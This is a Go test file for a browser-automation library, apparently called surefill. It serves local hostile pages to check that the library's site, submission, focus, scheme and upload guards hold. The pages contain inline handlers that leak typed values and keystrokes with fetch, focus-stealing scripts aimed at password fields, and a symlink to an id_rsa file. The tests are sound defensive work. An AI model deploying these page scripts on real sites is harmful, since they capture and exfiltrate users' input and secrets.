@@ -1,0 +1,480 @@
+package surefill_test
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/surefill/surefill"
+	"github.com/surefill/surefill/cdp"
+)
+
+// Hostile pages: each tries to walk around a guard rail between surefill's
+// check and its act. They are judged by what their own servers received
+// and by what a second CDP connection reads from the page, never by what
+// surefill returns alone.
+
+// hostile serves pages on two sites (127.0.0.1 is granted, 127.0.0.2 is
+// not) and records every request either one receives.
+type hostile struct {
+	a, b  string
+	mu    sync.Mutex
+	got   []string // "METHOD host path?query body"
+	pages map[string]string
+}
+
+func newHostile(t *testing.T, pages map[string]string) *hostile {
+	t.Helper()
+	h := &hostile{pages: pages}
+	mux := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		h.mu.Lock()
+		h.got = append(h.got, fmt.Sprintf("%s %s %s %s", r.Method, r.Host, r.URL.RequestURI(), body))
+		h.mu.Unlock()
+		page, ok := h.pages[r.URL.Path]
+		if r.URL.Path == "/redirect-out" {
+			http.Redirect(w, r, h.b+"/landing", http.StatusFound)
+			return
+		}
+		if !ok {
+			page = "<!doctype html><title>" + r.URL.Path + "</title><p>received</p>"
+		}
+		page = strings.NewReplacer("{{A}}", h.a, "{{B}}", h.b).Replace(page)
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprint(w, page)
+	})
+	for i, host := range []string{"127.0.0.1", "127.0.0.2"} {
+		l, err := net.Listen("tcp", host+":0")
+		if err != nil {
+			t.Fatal(err)
+		}
+		srv := &http.Server{Handler: mux}
+		go srv.Serve(l)
+		t.Cleanup(func() { srv.Close() })
+		if i == 0 {
+			h.a = "http://" + l.Addr().String()
+		} else {
+			h.b = "http://" + l.Addr().String()
+		}
+	}
+	return h
+}
+
+// received lists the requests whose line contains every part.
+func (h *hostile) received(parts ...string) []string {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	var out []string
+	for _, g := range h.got {
+		ok := true
+		for _, p := range parts {
+			ok = ok && strings.Contains(g, p)
+		}
+		if ok {
+			out = append(out, g)
+		}
+	}
+	return out
+}
+
+func (h *hostile) none(t *testing.T, what string, parts ...string) {
+	t.Helper()
+	if got := h.received(parts...); len(got) > 0 {
+		t.Errorf("%s: the server received %q", what, got)
+	}
+}
+
+// granted opens the page on the granted site with forms (and any extra
+// grants), Sites limited to 127.0.0.1.
+func (h *hostile) open(t *testing.T, path string, extra ...surefill.Grant) (*surefill.Tab, context.Context, *surefill.Browser) {
+	t.Helper()
+	g := surefill.Grants{Allow: append([]surefill.Grant{surefill.Forms}, extra...), Sites: []string{"127.0.0.1"}}
+	b := connect(t, surefill.Options{Grants: g})
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	t.Cleanup(cancel)
+	tab, err := b.NewTab(ctx, h.a+path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return tab, ctx, b
+}
+
+// peek evaluates an expression in the page whose address contains urlPart
+// through a second CDP connection of its own: evidence surefill cannot
+// shape.
+func peek(t *testing.T, urlPart, expr string) any {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	c, err := cdp.Connect(ctx, base.b.Endpoint(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	pages, err := c.Pages(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range pages {
+		if !strings.Contains(p.URL, urlPart) {
+			continue
+		}
+		s, err := c.AttachToTarget(ctx, p.TargetID)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var res struct {
+			Result struct {
+				Value json.RawMessage `json:"value"`
+			} `json:"result"`
+		}
+		if err := s.Call(ctx, "Runtime.evaluate", map[string]any{"expression": expr, "returnByValue": true}, &res); err != nil {
+			t.Fatal(err)
+		}
+		var v any
+		_ = json.Unmarshal(res.Result.Value, &v)
+		return v
+	}
+	t.Fatalf("no page at %s", urlPart)
+	return nil
+}
+
+func wantCode(t *testing.T, what string, err error, codes ...surefill.ErrorCode) {
+	t.Helper()
+	for _, c := range codes {
+		if errors.Is(err, c) {
+			return
+		}
+	}
+	t.Errorf("%s: want %v, got %v", what, codes, err)
+}
+
+const quick = 2 * time.Second
+
+// Case 1: sites checked where the input lands, not once at the start.
+func TestAttackSites(t *testing.T) {
+	h := newHostile(t, map[string]string{
+		// The field appears only on the other site, after a navigation
+		// the page starts while Fill waits for it.
+		"/late-nav": `<!doctype html><title>late</title><script>setTimeout(() => { location.href = '{{B}}/catch-name'; }, 300);</script>`,
+		"/catch-name": `<!doctype html><label>Name <input id=n oninput="fetch('/leak?v=' + this.value)"></label>`,
+		// Typing into the field navigates to the other site.
+		"/input-nav": `<!doctype html><label>Name <input id=n oninput="location.href = '{{B}}/caught?v=' + this.value"></label>`,
+		// A choice in a custom list navigates away.
+		"/option-nav": `<!doctype html><label id=l>Plan</label>
+<div role=combobox aria-labelledby=l aria-controls=lb aria-expanded=true tabindex=0>Pick</div>
+<ul role=listbox id=lb><li role=option onclick="location.href='{{B}}/caught-option'">Pro</li><li role=option>Basic</li></ul>`,
+		// A granted page framing the other site, whose srcdoc frame
+		// inherits its origin.
+		"/frames":     `<!doctype html><p>top</p><iframe src="{{B}}/srcdoc-host" width=600 height=300></iframe>`,
+		"/srcdoc-host": `<!doctype html><iframe width=500 height=200 srcdoc="<label>Card holder <input oninput=&quot;fetch('/leak-srcdoc?v=' + this.value)&quot;></label>"></iframe>`,
+	})
+	t.Run("navigation while waiting", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/late-nav")
+		_, err := tab.Fill(ctx, surefill.Label("Name"), "Mallory-1", &surefill.FillOptions{Timeout: quick})
+		wantCode(t, "Fill", err, surefill.NotPermitted)
+		h.none(t, "the other site", "/catch-name")
+		h.none(t, "the other site", "Mallory-1")
+	})
+	t.Run("navigation from an input handler", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/input-nav")
+		_, err := tab.Fill(ctx, surefill.Label("Name"), "Mallory-2", nil)
+		wantCode(t, "Fill", err, surefill.NotPermitted)
+		h.none(t, "the other site", "/caught")
+	})
+	t.Run("navigation from an option click", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/option-nav")
+		err := tab.Click(ctx, surefill.Role("option", "Pro"))
+		wantCode(t, "Click", err, surefill.NotPermitted)
+		h.none(t, "the other site", "/caught-option")
+	})
+	t.Run("srcdoc frame of a site not granted", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/frames")
+		var f *surefill.Frame
+		var err error
+		for f == nil && ctx.Err() == nil {
+			f, err = tab.Frame(ctx, "about:srcdoc")
+			if err != nil {
+				t.Fatal(err)
+			}
+		}
+		_, err = f.Fill(ctx, surefill.Label("Card holder"), "Mallory-3", nil)
+		wantCode(t, "Fill", err, surefill.NotPermitted)
+		h.none(t, "the srcdoc frame", "/leak-srcdoc")
+	})
+}
+
+// Case 2: URL schemes and redirects.
+func TestAttackSchemes(t *testing.T) {
+	h := newHostile(t, map[string]string{
+		"/form": `<!doctype html><form method=post action=/posted><input name=q value=secret-q></form>`,
+	})
+	for _, check := range []bool{false, true} {
+		g := surefill.Grants{Allow: []surefill.Grant{surefill.Forms}, Sites: []string{"127.0.0.1"}}
+		b := connect(t, surefill.Options{Grants: g, CheckMode: check})
+		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+		defer cancel()
+		tab, err := b.NewTab(ctx, h.a+"/form")
+		if err != nil {
+			t.Fatal(err)
+		}
+		err = tab.Goto(ctx, "javascript:document.forms[0].submit()")
+		wantCode(t, "Goto javascript:", err, surefill.NotPermitted)
+		_, err = b.NewTab(ctx, "javascript:document.title='x'")
+		wantCode(t, "NewTab javascript:", err, surefill.NotPermitted)
+		dir := t.TempDir()
+		file := filepath.Join(dir, "private.html")
+		os.WriteFile(file, []byte("<p>private</p>"), 0o600)
+		err = tab.Goto(ctx, "file://"+file)
+		wantCode(t, "Goto file:", err, surefill.NotPermitted)
+		err = tab.Goto(ctx, h.a+"/redirect-out")
+		wantCode(t, "a redirect out of Sites", err, surefill.NotPermitted)
+	}
+	h.none(t, "the form", "POST")
+	h.none(t, "the redirect target", "/landing")
+}
+
+// Case 3: submissions the window submit listener could not see.
+func TestAttackSubmissions(t *testing.T) {
+	h := newHostile(t, map[string]string{
+		"/next": `<!doctype html><form method=post action=/sent-next><label>Name <input name=n></label>
+<button type=button onclick="this.form.submit()">Next</button></form>`,
+		"/filter": `<!doctype html><form action=/sent-filter><label>Sort <select name=s onchange="this.form.submit()"><option>Newest</option><option>Oldest</option></select></label></form>`,
+		"/shadow": `<!doctype html><div id=host></div><script>
+const r = document.getElementById('host').attachShadow({mode: 'open'});
+r.innerHTML = '<form method=post action=/sent-shadow><label>Query <input name=q></label><button>Go</button> <button type=button id=rs>Later</button></form>';
+r.getElementById('rs').onclick = () => r.querySelector('form').requestSubmit();
+</script>`,
+		"/frame-submit": `<!doctype html><iframe srcdoc="<form method=post action=/sent-frame><input name=z value=1></form>"></iframe>
+<button onclick="frames[0].document.forms[0].submit()">Continue</button>`,
+		"/get-nav": `<!doctype html><form id=f><label>Search <input name=query></label></form>
+<button onclick="location.href = '/sent-get?' + new URLSearchParams(new FormData(document.getElementById('f')))">Search now</button>`,
+		"/do": `<!doctype html><form method=post action=/sent-do><input name=x value=1><button type=submit>Proceed</button></form>`,
+	})
+	t.Run("form.submit from a Next button", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/next")
+		wantCode(t, "Click", tab.Click(ctx, surefill.Role("button", "Next")), surefill.NotPermitted)
+		h.none(t, "Next", "/sent-next")
+	})
+	t.Run("a select that submits on change", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/filter")
+		_, err := tab.Fill(ctx, surefill.Label("Sort"), "Oldest", nil)
+		wantCode(t, "Fill", err, surefill.NotPermitted)
+		h.none(t, "filter", "/sent-filter")
+	})
+	t.Run("shadow root submit, requestSubmit and Enter", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/shadow")
+		wantCode(t, "Click Go", tab.Click(ctx, surefill.Role("button", "Go")), surefill.NotPermitted)
+		wantCode(t, "Click Later", tab.Click(ctx, surefill.Role("button", "Later")), surefill.NotPermitted)
+		if _, err := tab.Fill(ctx, surefill.Label("Query"), "q1", nil); err != nil {
+			t.Fatal(err)
+		}
+		if err := tab.Click(ctx, surefill.Label("Query")); err != nil {
+			t.Fatal(err)
+		}
+		wantCode(t, "Press Enter", tab.Press(ctx, "Enter"), surefill.NotPermitted)
+		h.none(t, "shadow", "/sent-shadow")
+	})
+	t.Run("a click that submits a child frame's form", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/frame-submit")
+		wantCode(t, "Click", tab.Click(ctx, surefill.Role("button", "Continue")), surefill.NotPermitted)
+		h.none(t, "frame", "/sent-frame")
+	})
+	t.Run("a navigation carrying the form's data", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/get-nav")
+		if _, err := tab.Fill(ctx, surefill.Label("Search"), "needle", nil); err != nil {
+			t.Fatal(err)
+		}
+		wantCode(t, "Click", tab.Click(ctx, surefill.Role("button", "Search now")), surefill.NotPermitted)
+		h.none(t, "GET", "/sent-get")
+	})
+	t.Run("Do activate", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/do")
+		snap, err := tab.Snapshot(ctx)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var act *surefill.ControlAction
+		for _, f := range snap.Forms {
+			for _, c := range f.Controls {
+				if c.Label == "Proceed" && c.Target != nil {
+					a := surefill.ControlAction{Target: *c.Target}
+					a.Operation.Kind = "activate"
+					act = &a
+				}
+			}
+		}
+		if act == nil {
+			t.Fatalf("no Proceed control in %+v", snap.Forms)
+		}
+		_, err = tab.Do(ctx, *act)
+		wantCode(t, "Do", err, surefill.NotPermitted)
+		h.none(t, "Do", "/sent-do")
+	})
+}
+
+// Case 3, continued: one yes covers one submission, in any tab; Reload
+// does not send a post again without one.
+func TestAttackOneYesOneSubmission(t *testing.T) {
+	h := newHostile(t, map[string]string{
+		"/two": `<!doctype html><form method=post action=/sent-once><input name=x value=1></form>
+<button onclick="document.forms[0].submit()">Continue</button>`,
+	})
+	g := surefill.Grants{Allow: []surefill.Grant{surefill.Submit}, Sites: []string{"127.0.0.1"}}
+	b := connect(t, surefill.Options{Grants: g, Confirmer: surefill.ConfirmFunc(func(context.Context, string) (bool, error) { return true, nil })})
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	tab, err := b.NewTab(ctx, h.a+"/two")
+	if err != nil {
+		t.Fatal(err)
+	}
+	other, err := b.NewTab(ctx, h.a+"/two")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !b.Confirm(ctx, "send the form once?") {
+		t.Fatal("the confirmer said no")
+	}
+	if err := tab.Click(ctx, surefill.Role("button", "Continue")); err != nil {
+		t.Fatal(err)
+	}
+	if err := tab.WaitFor(ctx, surefill.Text("received"), nil); err != nil {
+		t.Fatal(err)
+	}
+	wantCode(t, "a second submission in another tab", other.Click(ctx, surefill.Role("button", "Continue")), surefill.NotPermitted)
+	wantCode(t, "Reload of the post's answer", tab.Reload(ctx), surefill.NotPermitted)
+	if got := h.received("POST", "/sent-once"); len(got) != 1 {
+		t.Errorf("the server received %d posts, want 1: %q", len(got), got)
+	}
+}
+
+// Case 4: focus moved between the check and the typing.
+func TestAttackFocus(t *testing.T) {
+	h := newHostile(t, map[string]string{
+		"/steal": `<!doctype html><label>Password <input id=pw type=password></label>
+<label>Comment <input id=comment></label>
+<script>document.getElementById('pw').addEventListener('focus', () => queueMicrotask(() => document.getElementById('comment').focus()));</script>`,
+		"/keydown": `<!doctype html><label>Email <input id=em type=email value="old@example.com" autocomplete=current-password></label>
+<label>Comment <input id=comment></label>
+<script>document.getElementById('em').addEventListener('keydown', () => queueMicrotask(() => document.getElementById('comment').focus()));</script>`,
+		"/to-frame": `<!doctype html><label>Card number <input id=cc autocomplete=cc-number></label>
+<iframe id=fr src="{{B}}/frame-input"></iframe>
+<script>document.getElementById('cc').addEventListener('focus', () => queueMicrotask(() => document.getElementById('fr').focus()));</script>`,
+		"/frame-input": `<!doctype html><input id=x autofocus oninput="fetch('/leak-frame?v=' + this.value)"><script>addEventListener('keydown', (e) => fetch('/leak-key?k=' + e.key));</script>`,
+	})
+	t.Run("microtask moves focus to a public field", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/steal")
+		_, err := tab.Fill(ctx, surefill.Label("Password"), "Sekr3t-steal", nil)
+		wantCode(t, "Fill", err, surefill.Covered)
+		if err != nil && strings.Contains(err.Error(), "Sekr3t") {
+			t.Errorf("the error holds the secret: %v", err)
+		}
+		if v := peek(t, "/steal", "document.getElementById('comment').value"); v != "" {
+			t.Errorf("the comment field holds %q", v)
+		}
+		fs, err := tab.Fields(ctx, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if b, _ := json.Marshal(fs); strings.Contains(string(b), "Sekr3t") {
+			t.Errorf("Fields lists the secret: %s", b)
+		}
+	})
+	t.Run("keydown moves focus", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/keydown")
+		_, err := tab.Fill(ctx, surefill.Label("Email"), "Sekr3t-key", nil)
+		wantCode(t, "Fill", err, surefill.Covered)
+		if v := peek(t, "/keydown", "document.getElementById('comment').value"); v != "" {
+			t.Errorf("the comment field holds %q", v)
+		}
+	})
+	t.Run("focus moved into a frame of a site not granted", func(t *testing.T) {
+		tab, ctx, _ := h.open(t, "/to-frame")
+		_, err := tab.Fill(ctx, surefill.Label("Card number"), "4111111111111111", nil)
+		wantCode(t, "Fill", err, surefill.Covered, surefill.NotPermitted)
+		h.none(t, "the framed site", "/leak-frame")
+		h.none(t, "the framed site", "/leak-key")
+	})
+}
+
+// Case 5: concurrent calls on one tab never interleave their input.
+func TestAttackConcurrentFills(t *testing.T) {
+	var page strings.Builder
+	page.WriteString("<!doctype html>")
+	for i := range 20 {
+		fmt.Fprintf(&page, "<label>Field %d <input id=f%d></label><br>", i, i)
+	}
+	h := newHostile(t, map[string]string{"/many": page.String()})
+	tab, ctx, _ := h.open(t, "/many")
+	var wg sync.WaitGroup
+	errs := make([]error, 20)
+	for i := range 20 {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			_, errs[i] = tab.Fill(ctx, surefill.Label(fmt.Sprintf("Field %d", i)), fmt.Sprintf("value-%02d", i), nil)
+		}()
+	}
+	wg.Wait()
+	got := peek(t, "/many", "Array.from(document.querySelectorAll('input'), (i) => i.value)")
+	vals, _ := got.([]any)
+	for i := range 20 {
+		if errs[i] != nil {
+			t.Errorf("fill %d: %v", i, errs[i])
+		}
+		if i >= len(vals) || vals[i] != fmt.Sprintf("value-%02d", i) {
+			t.Errorf("field %d holds %v", i, vals)
+			break
+		}
+	}
+}
+
+// Case 7: uploads.
+func TestAttackUploads(t *testing.T) {
+	h := newHostile(t, map[string]string{"/up": `<!doctype html><label>CV <input type=file id=cv></label>`})
+	root := t.TempDir()
+	outside := t.TempDir()
+	fifo := filepath.Join(root, "cv.pdf")
+	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	secret := filepath.Join(outside, "id_rsa")
+	os.WriteFile(secret, []byte("key"), 0o600)
+	link := filepath.Join(root, "link.pdf")
+	os.Symlink(secret, link)
+	g := surefill.Grants{Allow: []surefill.Grant{surefill.Forms}, Sites: []string{"127.0.0.1"}, Read: []string{root}}
+	b := connect(t, surefill.Options{Grants: g})
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	tab, err := b.NewTab(ctx, h.a+"/up")
+	if err != nil {
+		t.Fatal(err)
+	}
+	start := time.Now()
+	_, err = tab.Upload(ctx, surefill.Label("CV"), fifo)
+	wantCode(t, "a FIFO", err, surefill.NotFound)
+	if d := time.Since(start); d > 5*time.Second {
+		t.Errorf("the FIFO held the call %v", d)
+	}
+	_, err = tab.Upload(ctx, surefill.Label("CV"), link)
+	wantCode(t, "a link out of the roots", err, surefill.NotPermitted)
+	_, errMissing := tab.Upload(ctx, surefill.Label("CV"), filepath.Join(outside, "missing"))
+	_, errExisting := tab.Upload(ctx, surefill.Label("CV"), secret)
+	if surefill.CodeOf(errMissing) != surefill.NotPermitted || surefill.CodeOf(errExisting) != surefill.NotPermitted {
+		t.Errorf("outside the roots: missing %v, existing %v (want not_permitted for both)", errMissing, errExisting)
+	}
+	if n := peek(t, "/up", "document.getElementById('cv').files.length"); n != float64(0) {
+		t.Errorf("the input holds %v files", n)
+	}
+}
